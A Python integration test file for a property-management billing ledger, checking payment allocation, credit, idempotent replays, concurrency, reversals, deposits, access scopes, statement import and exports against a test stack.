"""test_payments: the billing ledger (issue D items 4, 5, 7, 9) end to end:
payments allocated oldest bill first, partial payments, credit used by the
next bill, external_ref and Idempotency-Key replays, concurrent payments for
one unit, reversals, manual charges, deposits, the integration key's scope,
and a generated property whose every account balances to the fen.

Bills here are manual charges (billing.charges.create) so that this file does
not depend on bill runs; the ledger treats every bill kind alike.
Tests run in file order and share STATE.
"""

import json
import random
import threading
import time
import uuid

from api import ok as _ok, error as _error

# two billing workers: concurrent payments for one unit really run at once
# (the late fee job is kept out of the way: late fees have test_billing_reports.py)
STACK = dict(scale={"billing": 2}, env={"PM_LATE_FEE_TICK_MS": "86400000"})

STATE = {}


def _admin(stack, method, path, body=None, headers=None):
    return stack.http(method, path, body=body, token=stack.admin_token, headers=headers)


def _count(stack, sql):
    return int(stack.psql(sql)[0][0])


def _property(stack, code):
    return _ok(_admin(stack, "POST", "/v1/properties", {"code": code, "name": "收费测试 " + code}), 201, "property")["id"]


def _unit(stack, pid, code, area="88.50"):
    return _ok(_admin(stack, "POST", "/v1/properties/%s/units" % pid,
                      {"code": code, "area_m2": float(area), "use": "residential"}), 201, "unit")["id"]


def _wait_units(stack, uids, timeout=15):
    """Billing learns units from tenants' events: wait until its copy has them."""
    want = ",".join("'%s'" % u for u in uids)
    deadline = time.time() + timeout
    while time.time() < deadline:
        if _count(stack, "SELECT count(*) FROM billing.units WHERE unit_id IN (%s)" % want) == len(uids):
            return
        time.sleep(0.1)
    raise AssertionError("billing never saw units %s" % uids)


def _charge(stack, pid, uid, amount, due, reason="维修费 repair", token=None):
    r = stack.http("POST", "/v1/properties/%s/charges" % pid, token=token or stack.admin_token,
                   body={"unit_id": uid, "amount": amount, "reason": reason, "due_date": due})
    return _ok(r, 201, "charge")


def _pay(stack, pid, uid, amount, method="wechat", ref=None, token=None, headers=None, status=201):
    body = {"unit_id": uid, "amount": amount, "method": method}
    if ref:
        body["external_ref"] = ref
    r = stack.http("POST", "/v1/properties/%s/payments" % pid, body=body, token=token or stack.admin_token,
                   headers=headers)
    return _ok(r, status, "payment")


def _balance(stack, bill_id):
    rows = stack.psql("SELECT amount, allocated, balance, status FROM billing.bill_balances WHERE bill_id = '%s'"
                      % bill_id)
    a, al, b, s = rows[0]
    return int(a), int(al), int(b), s


def _credit(stack, pid, uid):
    return _count(stack, "SELECT billing.unit_credit('%s', '%s')" % (pid, uid))


def _user(stack, name, role, pids):
    _ok(_admin(stack, "POST", "/v1/users", {"username": name, "password": "pass-%s-123" % name, "role": role,
                                             "property_ids": pids}), 201, "user")
    return stack.login(name, "pass-%s-123" % name)


def test_setup(stack):
    pid = _property(stack, "PAY-1")
    other = _property(stack, "PAY-2")
    units = [_unit(stack, pid, "A-%02d" % i) for i in range(1, 9)]
    foreign = _unit(stack, other, "X-01")
    _wait_units(stack, units + [foreign])
    STATE.update(pid=pid, other=other, units=units, foreign=foreign)


def test_bad_payments_are_refused(stack):
    pid, uid = STATE["pid"], STATE["units"][0]
    for amount in (0, -5, 1.5, "100", None):
        r = _admin(stack, "POST", "/v1/properties/%s/payments" % pid,
                   {"unit_id": uid, "amount": amount, "method": "cash"})
        err = _error(r, 422, "validation_failed", "amount %r" % (amount,))
        assert {d["field"] for d in err["details"]} == {"amount"}, err
    err = _error(_admin(stack, "POST", "/v1/properties/%s/payments" % pid,
                        {"unit_id": uid, "amount": 100, "method": "gold"}), 422, "validation_failed", "method")
    assert err["details"][0]["field"] == "method", err
    # a unit of another property: refused, nothing recorded
    err = _error(_admin(stack, "POST", "/v1/properties/%s/payments" % pid,
                        {"unit_id": STATE["foreign"], "amount": 100, "method": "cash"}),
                 422, "validation_failed", "foreign unit")
    assert err["details"][0]["field"] == "unit_id", err
    _error(_admin(stack, "POST", "/v1/properties/%s/payments" % pid, [1]), 422, "validation_failed", "array")
    assert _count(stack, "SELECT count(*) FROM billing.payments") == 0


def test_oldest_first_partial_and_credit(stack):
    pid, uid = STATE["pid"], STATE["units"][0]
    a = _charge(stack, pid, uid, 10000, "2026-01-15")
    b = _charge(stack, pid, uid, 5000, "2026-02-15")
    assert a["status"] == "unpaid" and a["balance"] == 10000, a
    p1 = _pay(stack, pid, uid, 12000)
    assert p1["currency"] == "CNY" and p1["amount"] == 12000, p1
    assert p1["allocations"] == [{"bill_id": a["id"], "amount": 10000}, {"bill_id": b["id"], "amount": 2000}], p1
    assert p1["credit"] == 0, p1
    assert _balance(stack, a["id"]) == (10000, 10000, 0, "paid")
    assert _balance(stack, b["id"]) == (5000, 2000, 3000, "partially_paid")
    # more than owed: the rest is credit
    p2 = _pay(stack, pid, uid, 4000, method="cash")
    assert p2["allocations"] == [{"bill_id": b["id"], "amount": 3000}] and p2["credit"] == 1000, p2
    assert p2["unallocated"] == 1000, p2
    # the next bill takes the credit at once
    c = _charge(stack, pid, uid, 2500, "2026-03-15")
    assert c["status"] == "partially_paid" and c["balance"] == 1500, c
    assert _credit(stack, pid, uid) == 0
    r = _admin(stack, "POST", "/v1/properties/%s/units/%s/apply-credit" % (pid, uid))
    assert _ok(r, 200, "apply-credit") == {"allocations": [], "credit": 0, "currency": "CNY"}
    # the payment reads back with what it pays
    got = _ok(_admin(stack, "GET", "/v1/properties/%s/payments/%s" % (pid, p2["id"])), 200, "get")
    assert got["allocations"] == [{"bill_id": b["id"], "amount": 3000}, {"bill_id": c["id"], "amount": 1000}], got
    assert _count(stack, "SELECT count(*) FROM billing.outbox WHERE type = 'payment.received'") == 2
    STATE["bill_c"] = c["id"]


def test_credit_on_bills_issued_later_and_apply_credit(stack):
    pid, uid = STATE["pid"], STATE["units"][1]
    p = _pay(stack, pid, uid, 8000, method="alipay")
    assert p["allocations"] == [] and p["credit"] == 8000, p
    # a bill inserted behind the ledger's back (as a run might) is paid by apply-credit
    bill = stack.psql("INSERT INTO billing.bills (property_id, unit_id, kind, due_date, amount, period)"
                      " VALUES ('%s', '%s', 'periodic', '2026-04-15', 3000, '2026-04') RETURNING id" % (pid, uid))[0][0]
    r = _ok(_admin(stack, "POST", "/v1/properties/%s/units/%s/apply-credit" % (pid, uid)), 200, "apply")
    assert r["credit"] == 5000, r
    assert r["allocations"] == [{"payment_id": p["id"], "bill_id": bill, "amount": 3000}], r
    assert _balance(stack, bill)[3] == "paid"


def _bill_behind_the_ledger(stack, pid, uid, amount, due):
    """A bill inserted in SQL, as a run might, without settling the unit's credit."""
    return stack.psql("INSERT INTO billing.bills (property_id, unit_id, kind, due_date, amount, period)"
                      " VALUES ('%s', '%s', 'periodic', '%s', %d, '%s') RETURNING id"
                      % (pid, uid, due, amount, due[:7]))[0][0]


def test_allocation_oldest_money_first(stack):
    """The allocation rule (BL_LEDGER_ALLOCATION_CTES, ledger.h) through both
    statements that run it: a payment's and apply-credit's. Oldest payment
    first pays the oldest bill first; a void or paid bill takes nothing."""
    pid = STATE["pid"]
    uid = _unit(stack, pid, "ALLOC-1")
    _wait_units(stack, [uid])
    p1 = _pay(stack, pid, uid, 300, ref="ALLOC-P1")
    p2 = _pay(stack, pid, uid, 50, ref="ALLOC-P2")
    assert p1["credit"] == 300 and p2["credit"] == 350, (p1, p2)
    # the oldest bill, but void: it takes nothing
    void = _bill_behind_the_ledger(stack, pid, uid, 900, "2025-12-15")
    stack.psql("INSERT INTO billing.bill_voids (bill_id, property_id, reason) VALUES ('%s', '%s', 'test')"
               % (void, pid))
    b1 = _bill_behind_the_ledger(stack, pid, uid, 200, "2026-01-15")
    b2 = _bill_behind_the_ledger(stack, pid, uid, 400, "2026-02-15")
    # a payment of 1000: the remainders laid end to end, P1 [0, 300), P2
    # [300, 350), P3 [350, 1350), over B1 [0, 200), B2 [200, 600):
    #   P1 pays B1 200 ([0, 200)) and B2 100 ([200, 300));
    #   P2 pays B2 50 ([300, 350)); P3 pays B2 250 ([350, 600));
    #   credit 1350 - 600 = 750, all of it P3's (1000 - 250)
    p3 = _pay(stack, pid, uid, 1000, ref="ALLOC-P3")
    assert p3["allocations"] == [{"bill_id": b2, "amount": 250}], p3
    assert p3["unallocated"] == 750 and p3["credit"] == 750, p3
    rows = stack.psql("SELECT payment_id, bill_id, amount FROM billing.allocations WHERE unit_id = '%s' ORDER BY id"
                      % uid)
    assert rows == [(p1["id"], b1, "200"), (p1["id"], b2, "100"), (p2["id"], b2, "50"), (p3["id"], b2, "250")], rows
    assert _balance(stack, b1) == (200, 200, 0, "paid") and _balance(stack, b2) == (400, 400, 0, "paid")
    assert _balance(stack, void)[3] == "void"
    # apply-credit: P3's 750 over B3 500 and B4 400 (B1, B2 paid take nothing):
    #   P3 pays B3 500 ([0, 500)) and B4 250 ([500, 750)); B4 keeps 150; credit 0
    b4 = _bill_behind_the_ledger(stack, pid, uid, 400, "2026-04-15")
    b3 = _bill_behind_the_ledger(stack, pid, uid, 500, "2026-03-15")
    r = _ok(_admin(stack, "POST", "/v1/properties/%s/units/%s/apply-credit" % (pid, uid)), 200, "apply-credit")
    assert r == {"allocations": [{"payment_id": p3["id"], "bill_id": b3, "amount": 500},
                                 {"payment_id": p3["id"], "bill_id": b4, "amount": 250}],
                 "credit": 0, "currency": "CNY"}, r
    assert _balance(stack, b3) == (500, 500, 0, "paid") and _balance(stack, b4) == (400, 250, 150, "partially_paid")
    # and nothing more to do
    r = _ok(_admin(stack, "POST", "/v1/properties/%s/units/%s/apply-credit" % (pid, uid)), 200, "again")
    assert r["allocations"] == [] and r["credit"] == 0, r


def test_external_ref_recorded_once(stack):
    pid, uid = STATE["pid"], STATE["units"][2]
    _charge(stack, pid, uid, 6000, "2026-01-15")
    first = _pay(stack, pid, uid, 6000, method="bank_transfer", ref="BANK-20261127-0001")
    again = _pay(stack, pid, uid, 6000, method="bank_transfer", ref="BANK-20261127-0001", status=200)
    assert again["id"] == first["id"] and again["allocations"] == first["allocations"], (first, again)
    assert _count(stack, "SELECT count(*) FROM billing.payments WHERE external_ref = 'BANK-20261127-0001'") == 1
    # the same reference for another amount is not the same payment
    r = _admin(stack, "POST", "/v1/properties/%s/payments" % pid,
               {"unit_id": uid, "amount": 1, "method": "bank_transfer", "external_ref": "BANK-20261127-0001"})
    _error(r, 409, "conflict", "ref reused")
    # another property may use the same reference
    fu = STATE["foreign"]
    _pay(stack, STATE["other"], fu, 100, ref="BANK-20261127-0001")
    assert _count(stack, "SELECT count(*) FROM billing.payments WHERE external_ref = 'BANK-20261127-0001'") == 2


def test_idempotency_key_replays_the_payment(stack):
    pid, uid = STATE["pid"], STATE["units"][3]
    key = {"Idempotency-Key": "pay-" + uuid.uuid4().hex}
    a = _pay(stack, pid, uid, 777, headers=key)
    b = _pay(stack, pid, uid, 777, headers=key)
    assert a == b, (a, b)
    assert _count(stack, "SELECT count(*) FROM billing.payments WHERE unit_id = '%s'" % uid) == 1
    r = stack.http("POST", "/v1/properties/%s/payments" % pid, token=stack.admin_token, headers=key,
                   body={"unit_id": uid, "amount": 778, "method": "wechat"})
    _error(r, 409, "idempotency_mismatch", "other body")


def test_concurrent_payments_never_over_allocate(stack):
    pid, uid = STATE["pid"], STATE["units"][4]
    bills = [_charge(stack, pid, uid, 10000, "2026-0%d-15" % m)["id"] for m in (1, 2)]
    results, errors = [], []

    def pay(i):
        try:
            r = stack.http("POST", "/v1/properties/%s/payments" % pid, token=stack.admin_token,
                           body={"unit_id": uid, "amount": 3000, "method": "card", "external_ref": "C-%d" % i})
            results.append(r.status)
        except Exception as e:  # noqa: BLE001
            errors.append(e)

    threads = [threading.Thread(target=pay, args=(i,)) for i in range(10)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors and results == [201] * 10, (results, errors)
    for b in bills:
        assert _balance(stack, b) == (10000, 10000, 0, "paid"), _balance(stack, b)
    assert _credit(stack, pid, uid) == 10000


def test_reversal_reopens_bills(stack):
    pid, uid = STATE["pid"], STATE["units"][5]
    bill = _charge(stack, pid, uid, 5000, "2026-01-15")["id"]
    p = _pay(stack, pid, uid, 7000)
    assert _balance(stack, bill)[3] == "paid" and p["credit"] == 2000
    agent = _user(stack, "pay-agent", "agent", [pid])
    _error(stack.http("POST", "/v1/properties/%s/payments/%s/reverse" % (pid, p["id"]), token=agent,
                      body={"reason": "wrong unit"}), 403, "forbidden", "agent reverses")
    _error(_admin(stack, "POST", "/v1/properties/%s/payments/%s/reverse" % (pid, p["id"]), {}),
           422, "validation_failed", "no reason")
    r = _ok(_admin(stack, "POST", "/v1/properties/%s/payments/%s/reverse" % (pid, p["id"]),
                   {"reason": "退款 refund: paid twice"}), 200, "reverse")
    assert r["status"] == "reversed" and r["allocations"] == [] and r["credit"] == 0, r
    assert r["reversal"]["reason"] == "退款 refund: paid twice", r
    assert _balance(stack, bill) == (5000, 0, 5000, "unpaid")
    _error(_admin(stack, "POST", "/v1/properties/%s/payments/%s/reverse" % (pid, p["id"]), {"reason": "again"}),
           409, "invalid_transition", "twice")
    # nothing was updated: the original allocation and its negative twin are both there
    rows = stack.psql("SELECT amount FROM billing.allocations WHERE payment_id = '%s' ORDER BY id" % p["id"])
    assert [int(x[0]) for x in rows] == [5000, -5000], rows
    assert _count(stack, "SELECT count(*) FROM billing.outbox WHERE type = 'payment.reversed'") == 1
    # an agent records payments; another property's payment is 404
    _pay(stack, pid, uid, 5000, token=agent)
    assert _balance(stack, bill)[3] == "paid"
    _error(stack.http("GET", "/v1/properties/%s/payments/%s" % (STATE["other"], p["id"]), token=stack.admin_token),
           404, "not_found", "other property")


def test_charges_need_a_manager(stack):
    pid, uid = STATE["pid"], STATE["units"][6]
    agent = stack.login("pay-agent", "pass-pay-agent-123")
    r = stack.http("POST", "/v1/properties/%s/charges" % pid, token=agent,
                   body={"unit_id": uid, "amount": 100, "reason": "x"})
    assert r.status == 403, r
    _error(_admin(stack, "POST", "/v1/properties/%s/charges" % pid, {"unit_id": uid, "amount": 0}),
           422, "validation_failed", "bad charge")


def test_deposits(stack):
    pid, uid = STATE["pid"], STATE["units"][6]
    tid = str(uuid.uuid4())
    d = _ok(_admin(stack, "POST", "/v1/properties/%s/deposits" % pid,
                   {"unit_id": uid, "amount": 200000, "ticket_id": tid}), 201, "deposit")
    assert d["status"] == "held" and d["bill_status"] == "unpaid" and d["amount"] == 200000, d
    again = _ok(_admin(stack, "POST", "/v1/properties/%s/deposits" % pid,
                       {"unit_id": uid, "amount": 200000, "ticket_id": tid}), 200, "deposit again")
    assert again["id"] == d["id"], again
    path = "/v1/properties/%s/deposits/%s/refund" % (pid, d["id"])
    _error(_admin(stack, "POST", path, {}), 409, "invalid_transition", "refund unpaid")
    _pay(stack, pid, uid, 200000)
    _error(_admin(stack, "POST", path, {"amount": 150000}), 422, "validation_failed", "deduction without reason")
    _error(_admin(stack, "POST", path, {"amount": 300000}), 422, "validation_failed", "more than held")
    r = _ok(_admin(stack, "POST", path, {"amount": 150000, "reason": "墙面损坏 wall damage"}), 200, "refund")
    assert r["status"] == "refunded" and r["refund"]["amount"] == 150000 and r["refund"]["deducted"] == 50000, r
    _error(_admin(stack, "POST", path, {}), 409, "invalid_transition", "refund twice")
    assert _count(stack, "SELECT count(*) FROM billing.outbox WHERE type = 'deposit.refunded'") == 1


def test_integration_key_scope(stack):
    pid, other, uid = STATE["pid"], STATE["other"], STATE["units"][7]
    r = _admin(stack, "POST", "/v1/api-keys", {"name": "bank feed", "role": "integration", "property_ids": [pid]})
    key = _ok(r, 201, "api key")["key"]
    p = _pay(stack, pid, uid, 1234, method="external", ref="EXT-1", token=key)
    assert p["credit"] == 1234, p
    _ok(stack.http("GET", "/v1/properties/%s/payments/%s" % (pid, p["id"]), token=key), 200, "read own")
    r = stack.http("POST", "/v1/properties/%s/payments" % other, token=key,
                   body={"unit_id": STATE["foreign"], "amount": 1, "method": "external"})
    assert r.status == 404, "another property's: 404 (API.md), got %r" % r
    r = stack.http("POST", "/v1/properties/%s/payments/%s/reverse" % (pid, p["id"]), token=key,
                   body={"reason": "no"})
    assert r.status == 403, r
    r = stack.http("POST", "/v1/properties/%s/charges" % pid, token=key,
                   body={"unit_id": uid, "amount": 1, "reason": "no"})
    assert r.status == 403, r


def _wait(stack, sql, want, timeout=15):
    deadline = time.time() + timeout
    while time.time() < deadline:
        got = stack.psql(sql)[0][0]
        if got == want:
            return
        time.sleep(0.1)
    raise AssertionError("%s: still %r, wanted %r" % (sql, got, want))


def _billing_read_tickets_events(stack, tid):
    """Waits until billing's consumer has read past every event tickets wrote about tid, so that
    a check that billing did nothing with them means something."""
    seq = int(stack.psql("SELECT max(seq) FROM tickets.outbox WHERE data->>'id' = '%s'" % tid)[0][0])
    deadline = time.time() + 15
    cur = None
    while time.time() < deadline:
        rows = stack.psql("SELECT cursor FROM billing.consumer_cursors WHERE producer = 'tickets'")
        cur = rows[0][0] if rows else None
        if cur and int(cur.rpartition(":")[2]) >= seq:
            return
        time.sleep(0.1)
    raise AssertionError("billing's cursor on tickets is %r, not yet past seq %d" % (cur, seq))


def _ticket_act(stack, pid, tid, token, action, **extra):
    body = dict(action=action, **extra)
    return _ok(stack.http("POST", "/v1/properties/%s/tickets/%s/actions" % (pid, tid), token=token, body=body),
               200, "%s on %s" % (action, tid))


def test_tickets_charge_the_unit_once(stack):
    pid, uid = STATE["pid"], STATE["units"][7]
    adm = stack.admin_token
    tech_name = "pay-tech"
    tech = _ok(_admin(stack, "POST", "/v1/users", {"username": tech_name, "password": "pass-pay-tech-123",
                                                    "role": "technician", "property_ids": [pid]}), 201, "tech")
    ttok = stack.login(tech_name, "pass-pay-tech-123")
    t = _ok(stack.http("POST", "/v1/properties/%s/tickets" % pid, token=adm,
                       body={"type": "repair", "title": "水管漏水", "unit_id": uid}), 201, "ticket")
    _ticket_act(stack, pid, t["id"], adm, "accept")
    _ticket_act(stack, pid, t["id"], adm, "assign", assignee_id=tech["id"])
    _ticket_act(stack, pid, t["id"], ttok, "start")
    _ticket_act(stack, pid, t["id"], ttok, "resolve", note="换阀门", fee={"amount": 8800, "fee_item_code": "REPAIR"})
    # a technician's fee is only proposed: billing charges nothing until a manager approves it
    _billing_read_tickets_events(stack, t["id"])
    assert _count(stack, "SELECT count(*) FROM billing.bills WHERE source = 'ticket.fee_charged'"
                         " AND unit_id = '%s'" % uid) == 0
    _ticket_act(stack, pid, t["id"], adm, "approve_fee")
    _wait(stack, "SELECT count(*) FROM billing.bills WHERE source = 'ticket.fee_charged' AND unit_id = '%s'" % uid,
          "1")
    # the unit had 1234 fen of credit (the integration key's payment): it pays part of the repair
    rows = stack.psql("SELECT bb.amount, bb.allocated, bb.status, bb.kind FROM billing.bill_balances bb"
                      " JOIN billing.bills b ON b.id = bb.bill_id WHERE b.source = 'ticket.fee_charged'"
                      " AND b.unit_id = '%s'" % uid)
    assert rows == [("8800", "1234", "partially_paid", "charge")], rows
    # delivered again (a consumer restarting from an older cursor): charged once
    stack.psql("UPDATE billing.consumer_cursors SET cursor = '0:0' WHERE producer = 'tickets'")
    stack.psql("DELETE FROM billing.processed_events WHERE producer = 'tickets'")
    _billing_read_tickets_events(stack, t["id"])
    assert _count(stack, "SELECT count(*) FROM billing.bills WHERE source = 'ticket.fee_charged'") == 1

    # renovation: approval charges the management fee and takes the deposit;
    # acceptance refunds the paid deposit
    r = _ok(stack.http("POST", "/v1/properties/%s/tickets" % pid, token=adm,
                       body={"type": "renovation", "title": "厨房改造", "unit_id": uid,
                             "data": {"deposit": 300000, "management_fee": 60000}}), 201, "renovation")
    _ticket_act(stack, pid, r["id"], adm, "approve", note="按图纸施工")
    _wait(stack, "SELECT count(*) FROM billing.deposits WHERE ticket_id = '%s'" % r["id"], "1")
    assert _count(stack, "SELECT count(*) FROM billing.bills WHERE source = 'ticket.renovation_fee'"
                         " AND source_ref = '%s' AND amount = 60000" % r["id"]) == 1
    _pay(stack, pid, uid, 8800 - 1234 + 60000 + 300000)
    _ticket_act(stack, pid, r["id"], adm, "start")
    _ticket_act(stack, pid, r["id"], adm, "accept", note="验收合格")
    _wait(stack, "SELECT count(*) FROM billing.deposit_refunds r JOIN billing.deposits d ON d.id = r.deposit_id"
                 " WHERE d.ticket_id = '%s' AND r.amount = 300000" % r["id"], "1")


def test_money_is_exact_to_the_fen(stack):
    """A generated property: bills, payments, partial payments, credit and
    reversals; every line, payment and allocation summed, every account balanced."""
    rnd = random.Random(20261127)
    pid = _property(stack, "PAY-GEN")
    units = [_unit(stack, pid, "G-%02d" % i) for i in range(6)]
    _wait_units(stack, units)
    paid = {u: 0 for u in units}
    billed = {u: 0 for u in units}
    payments = []
    for month in range(1, 7):
        for u in units:
            amt = rnd.randint(1, 500000)
            _charge(stack, pid, u, amt, "2026-%02d-15" % month)
            billed[u] += amt
            for _ in range(rnd.randint(0, 2)):
                amt = rnd.randint(1, 400000)
                payments.append((u, _pay(stack, pid, u, amt, method=rnd.choice(["cash", "wechat", "alipay"]))))
                paid[u] += amt
    for u, p in rnd.sample(payments, 4):
        _ok(_admin(stack, "POST", "/v1/properties/%s/payments/%s/reverse" % (pid, p["id"]), {"reason": "test"}),
            200, "reverse")
        paid[u] -= p["amount"]
    for u in units:
        _ok(_admin(stack, "POST", "/v1/properties/%s/units/%s/apply-credit" % (pid, u)), 200, "apply")
        allocated = _count(stack, "SELECT COALESCE(sum(amount), 0) FROM billing.allocations WHERE unit_id = '%s'" % u)
        outstanding = _count(stack, "SELECT COALESCE(sum(balance), 0) FROM billing.bill_balances"
                                    " WHERE unit_id = '%s'" % u)
        credit = _credit(stack, pid, u)
        # money in = what paid bills + what is left as credit; bills = paid + still owed
        assert paid[u] == allocated + credit, (u, paid[u], allocated, credit)
        assert billed[u] == allocated + outstanding, (u, billed[u], allocated, outstanding)
        assert credit >= 0 and outstanding >= 0
        # credit and an open bill never coexist after settling
        assert credit == 0 or outstanding == 0, (credit, outstanding)
    # no bill is over-allocated, no payment over-spent, anywhere
    assert _count(stack, "SELECT count(*) FROM billing.bill_balances WHERE allocated > amount OR allocated < 0") == 0
    assert _count(stack, "SELECT count(*) FROM billing.payment_remainders WHERE remainder < 0") == 0
    # the payments' own documents add up too
    total_alloc = sum(a["amount"] for _, p in payments
                      for a in _ok(_admin(stack, "GET", "/v1/properties/%s/payments/%s" % (pid, p["id"])),
                                   200, "get")["allocations"])
    assert total_alloc == _count(stack, "SELECT COALESCE(sum(a.amount), 0) FROM billing.allocations a"
                                        " JOIN billing.payments p ON p.id = a.payment_id"
                                        " WHERE p.property_id = '%s'" % pid)


def _import(stack, pid, text, token=None, charset=None):
    raw = text.encode("gb18030" if charset else "utf-8") if isinstance(text, str) else text
    h = {"Content-Type": "text/csv" + ("; charset=%s" % charset if charset else "")}
    return stack.http("POST", "/v1/properties/%s/imports/payments" % pid, raw=raw,
                      token=token or stack.admin_token, headers=h)


def test_payments_import_and_reconciliation(stack):
    pid = _property(stack, "PAY-IMP")
    units = [_unit(stack, pid, code) for code in ("B-0101", "B-0102")]
    _wait_units(stack, units)
    bill = _charge(stack, pid, units[0], 50000, "2026-01-15")["id"]
    text = ("\ufeffunit_code,amount,method,external_ref,paid_at\r\n"
            "B-0101,30000,bank_transfer,STMT-001,2026-11-20T10:00:00+08:00\r\n"
            "B-0101,20000,alipay,\"STMT-002,张三\",2026-11-21\r\n"        # a comma inside a quoted Chinese field
            "B-0102,100,wechat,STMT-003,\r\n"
            "B-0101,100,wechat,STMT-001,\r\n"                              # repeats line 2
            "Z-9999,500,cash,STMT-004,\r\n"                               # no such unit
            "B-0102,-5,cash,STMT-005,\r\n"                                # bad amount
            "B-0102,5.5,cash,STMT-006,\r\n"
            "B-0102,5,gold,STMT-007,\r\n"
            "B-0102,5,cash,,\r\n"
            "\r\n")
    r = _ok(_import(stack, pid, text), 200, "import")
    assert (r["imported"], r["duplicates"], r["rejected"]) == (3, 1, 5), r
    assert [e["line"] for e in r["errors"]] == [6, 7, 8, 9, 10], r["errors"]
    rec = r["reconciliation"]
    assert [m["external_ref"] for m in rec["matched"]] == ["STMT-001", "STMT-002,张三", "STMT-003"], rec
    assert [(u["line"], u["unit_code"]) for u in rec["unmatched"]] == [(6, "Z-9999")], rec
    assert [(d["line"], d["external_ref"]) for d in rec["duplicates"]] == [(5, "STMT-001")], rec
    assert _balance(stack, bill) == (50000, 50000, 0, "paid")
    assert _credit(stack, pid, units[1]) == 100
    # the same statement again imports nothing twice
    r = _ok(_import(stack, pid, text), 200, "again")
    assert (r["imported"], r["duplicates"]) == (0, 4), r
    assert _count(stack, "SELECT count(*) FROM billing.payments WHERE property_id = '%s'" % pid) == 3
    # GB18030 (Excel in China) converts; a bad header refuses the file
    r = _ok(_import(stack, pid, "unit_code,amount,method,external_ref\r\nB-0102,7,cash,\"银行,流水-9\"\r\n",
                    charset="GB18030"), 200, "gb18030")
    assert r["imported"] == 1 and r["reconciliation"]["matched"][0]["external_ref"] == "银行,流水-9", r
    err = _error(_import(stack, pid, "unit,amount\r\nB-0102,1\r\n"), 422, "validation_failed", "header")
    assert {"unit_code", "method", "external_ref"} <= {d["field"] for d in err["details"]}, err
    # JSON is not a statement; agents may not import
    r = stack.http("POST", "/v1/properties/%s/imports/payments" % pid, body={"a": 1}, token=stack.admin_token)
    assert r.status in (415, 422), r
    agent = stack.login("pay-agent", "pass-pay-agent-123")
    r = _import(stack, pid, text, token=agent)
    assert r.status == 403, "an agent of the property may not import: 403, got %r" % r


def test_exports_csv_and_json(stack):
    pid = STATE["pid"]
    period = stack.psql("SELECT to_char((now() AT TIME ZONE 'Asia/Shanghai')::date, 'YYYY-MM')")[0][0]
    # bills of a period (the charges' periods follow their due dates)
    r = _admin(stack, "GET", "/v1/properties/%s/exports/bills?period=2026-01" % pid)
    assert r.status == 200 and r.headers["content-type"].startswith("text/csv"), r
    assert "attachment" in r.headers.get("content-disposition", ""), r.headers
    assert r.body.startswith(b"\xef\xbb\xbf"), r.body[:10]
    text = r.body[3:].decode("utf-8")
    lines = text.split("\r\n")
    assert lines[0].startswith('"bill_id","unit_code","unit_id","kind"'), lines[0]
    assert lines[-1] == "" and all(l.startswith('"') for l in lines[:-1]), lines[:3]
    want = _count(stack, "SELECT count(*) FROM billing.bills WHERE property_id = '%s' AND period = '2026-01'" % pid)
    assert len(lines) - 2 == want, (len(lines), want)
    j = _ok(_admin(stack, "GET", "/v1/properties/%s/exports/bills?period=2026-01&format=json" % pid), 200, "json")
    assert len(j["bills"]) == want and all(isinstance(b["amount"], int) for b in j["bills"]), j["bills"][:2]
    assert sum(b["allocated"] + b["balance"] for b in j["bills"] if b["status"] != "void") == \
        sum(b["amount"] for b in j["bills"] if b["status"] != "void")
    # payments and the ledger of this month
    j = _ok(_admin(stack, "GET", "/v1/properties/%s/exports/payments?period=%s&format=json" % (pid, period)),
            200, "payments")
    assert len(j["payments"]) == _count(stack, "SELECT count(*) FROM billing.payments WHERE property_id = '%s'"
                                               % pid), len(j["payments"])
    r = _admin(stack, "GET", "/v1/properties/%s/exports/ledger?period=%s" % (pid, period))
    assert r.status == 200 and b'"reversal"' in r.body and b'"allocation"' in r.body, r
    for bad in ("period=2026-13", "period=2026-01&format=xml", ""):
        _error(_admin(stack, "GET", "/v1/properties/%s/exports/bills?%s" % (pid, bad)), 422, "validation_failed", bad)
    # an integration key exports its property only; an agent does not export
    key = _ok(_admin(stack, "POST", "/v1/api-keys", {"name": "erp", "role": "integration", "property_ids": [pid]}),
              201, "key")["key"]
    assert stack.http("GET", "/v1/properties/%s/exports/bills?period=2026-01" % pid, token=key).status == 200
    r = stack.http("GET", "/v1/properties/%s/exports/bills?period=2026-01" % STATE["other"], token=key)
    assert r.status == 404, "another property's: 404 (API.md), got %r" % r
    agent = stack.login("pay-agent", "pass-pay-agent-123")
    assert stack.http("GET", "/v1/properties/%s/exports/bills?period=2026-01" % pid, token=agent).status == 403


def test_every_bill_outside_a_run_issued_once(stack):
    """Charges (manual, paid repairs, renovation fees) and deposits raise
    bill.issued in their own transaction, once per bill (a redelivered
    ticket event made no second bill and no second event), with the run's
    data shape (proto/events.md)."""
    rows = stack.psql("SELECT b.id, b.kind, b.source, count(o.seq) FROM billing.bills b"
                      " LEFT JOIN billing.outbox o ON o.type = 'bill.issued' AND o.data->>'bill_id' = b.id::text"
                      " WHERE b.kind <> 'periodic' GROUP BY b.id, b.kind, b.source")
    assert rows and all(r[3] == "1" for r in rows), [r for r in rows if r[3] != "1"]
    sources = {r[2] for r in rows}
    assert {"manual", "ticket.fee_charged", "ticket.renovation_fee", "deposit"} <= sources, sources
    assert _count(stack, "SELECT count(*) FROM billing.outbox WHERE type = 'bill.issued'") == len(rows)
    keys = {"bill_id", "unit_id", "unit_code", "parking_lease_id", "bill_to_party_id", "period", "amount",
            "currency", "due_date", "run_id", "kind", "description"}
    for (data,) in stack.psql("SELECT data::text FROM billing.outbox WHERE type = 'bill.issued'"):
        d = json.loads(data)
        assert set(d) == keys, d
        assert d["run_id"] is None and d["currency"] == "CNY" and isinstance(d["amount"], int), d
        assert d["unit_code"] and d["kind"] in ("charge", "deposit"), d
    # the event's amount and due date are the bill's
    assert _count(stack, "SELECT count(*) FROM billing.outbox o JOIN billing.bills b"
                         " ON b.id::text = o.data->>'bill_id' WHERE o.type = 'bill.issued'"
                         " AND ((o.data->>'amount')::bigint <> b.amount OR (o.data->>'due_date')::date <> b.due_date"
                         "      OR o.property_id <> b.property_id)") == 0


def _list(stack, pid, query="", token=None, status=200):
    r = stack.http("GET", "/v1/properties/%s/payments%s" % (pid, query), token=token or stack.admin_token)
    return _ok(r, status, "list payments %s" % query)


def test_payments_list(stack):
    pid, other, units = STATE["pid"], STATE["other"], STATE["units"]
    total = _count(stack, "SELECT count(*) FROM billing.payments WHERE property_id = '%s'" % pid)
    body = _list(stack, pid, "?limit=500")
    items = body["items"]
    assert len(items) == total and body["next_cursor"] is None, (len(items), total)
